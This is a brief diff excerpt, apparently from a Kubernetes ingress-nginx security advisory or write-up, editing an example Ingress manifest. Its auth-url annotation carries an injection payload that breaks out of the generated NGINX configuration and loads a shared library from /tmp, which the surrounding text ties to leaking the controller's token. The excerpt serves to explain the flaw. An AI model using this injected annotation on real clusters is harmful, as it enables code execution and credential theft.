@@ -112,7 +112,7 @@ all namespaces: whoever may edit one Ingress prints the controller's token with 
         metadata:
           name: shop
           annotations:
-            nginx.ingress.kubernetes.io/auth-url: «"http://login.acme.svc/#;\\n}\\nload_module /tmp/a.so;"»
+            nginx.ingress.kubernetes.io/auth-url: «"https://login.acme.io/#;\\n}\\nload_module /tmp/a.so;"»
             nginx.ingress.kubernetes.io/auth-signin: https://login.acme.io
         spec:
           tls: [{ secretName: shop-tls }]
